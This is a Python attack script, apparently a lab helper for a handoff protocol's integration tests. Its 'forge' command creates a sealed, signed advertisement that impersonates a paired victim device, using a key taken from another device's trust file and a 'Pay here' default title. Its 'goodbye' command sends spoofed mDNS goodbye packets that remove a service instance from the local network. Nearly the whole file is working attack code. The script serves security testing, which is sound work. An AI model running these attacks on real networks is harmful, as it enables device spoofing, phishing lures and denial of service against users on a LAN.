#!/usr/bin/env python3
"""Attacks on handoff advertisements, for the lab (Tests/HandoffIntegrationTests/AdvertisementsOnHostsTests.swift).

  forge     Prints the TXT strings (one per line, for avahi-publish) of a sealed v=3 record that
            claims to come from a paired device VICTIM: sealed with VICTIM's advertising key, read
            from the --trust file of a device paired with it (a paired device gone bad holds it),
            and signed with --signer, the attacker's own identity-key.pem (it has no other).
            The content is an ActivityAdvertisement of --agent-id offering --title.
  goodbye   Sends an mDNS goodbye (PTR, TTL 0) for the DNS-SD instance --instance of --service,
            from port 5353 to 224.0.0.251, as any host on the LAN can.
"""
import argparse
import base64
import json
import os
import socket
import struct
import sys
import uuid

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

CONTEXT = b"handoff-ad-v3"

def activity_record(agent_id, seq, title, activity_type):
    fields = ["v=2", f"id={agent_id}", f"seq={seq}", f"aid={str(uuid.uuid4()).upper()}", f"type={activity_type}", f"title={title}"]
    return b"".join(bytes([len(f.encode())]) + f.encode() for f in fields)

def forge(args):
    trust = json.load(open(args.trust))
    victim = [d for d in trust["devices"] if d["deviceID"].replace("-", "") == args.victim.replace("-", "")]
    if not victim or not victim[0].get("advertisingKey"):
        sys.exit(f"{args.trust} holds no advertising key of {args.victim}")
    key = base64.b64decode(victim[0]["advertisingKey"])
    signer = serialization.load_pem_private_key(open(args.signer, "rb").read(), password=None)
    plaintext = activity_record(args.agent_id, args.seq, args.title, args.type)
    name = args.instance.encode()
    timestamp = struct.pack(">Q", args.timestamp)
    der = signer.sign(CONTEXT + struct.pack(">H", len(name)) + name + timestamp + plaintext, ec.ECDSA(hashes.SHA256()))
    r, s = decode_dss_signature(der)
    signature = r.to_bytes(32, "big") + s.to_bytes(32, "big")
    nonce = os.urandom(12)
    sealed = nonce + ChaCha20Poly1305(key).encrypt(nonce, timestamp + signature + plaintext, CONTEXT)
    text = base64.b64encode(sealed).decode()
    strings = ["v=3"]
    index = 0
    while text:
        prefix = f"s{index}="
        take = 255 - len(prefix)
        strings.append(prefix + text[:take])
        text = text[take:]
        index += 1
    print("\n".join(strings))

def encode_name(name):
    out = b""
    for label in name:
        raw = label.encode()
        out += bytes([len(raw)]) + raw
    return out + b"\x00"

def goodbye(args):
    service = args.service.split(".")  # _handoff._tcp
    owner = encode_name(service + ["local"])
    target = encode_name([args.instance] + service + ["local"])
    header = struct.pack(">HHHHHH", 0, 0x8400, 0, 1, 0, 0)
    answer = owner + struct.pack(">HHIH", 12, 1, 0, len(target)) + target
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if hasattr(socket, "SO_REUSEPORT"):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.bind(("0.0.0.0", 5353))
    for _ in range(args.count):
        sock.sendto(header + answer, ("224.0.0.251", 5353))
    print(json.dumps({"sent": args.count, "instance": args.instance}))

def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    f = sub.add_parser("forge")
    f.add_argument("--trust", required=True, help="trust.json of a device paired with the victim")
    f.add_argument("--victim", required=True, help="the victim's device ID")
    f.add_argument("--signer", required=True, help="the attacker's identity-key.pem")
    f.add_argument("--instance", required=True, help="the instance name the record is published under")
    f.add_argument("--timestamp", type=int, default=(1 << 64) - 2)
    f.add_argument("--agent-id", required=True)
    f.add_argument("--seq", type=int, default=1 << 40)
    f.add_argument("--title", default="Pay here")
    f.add_argument("--type", default="com.example.notes.edit")
    g = sub.add_parser("goodbye")
    g.add_argument("--instance", required=True)
    g.add_argument("--service", default="_handoff._tcp")
    g.add_argument("--count", type=int, default=3)
    args = parser.parse_args()
    forge(args) if args.command == "forge" else goodbye(args)

if __name__ == "__main__":
    main()
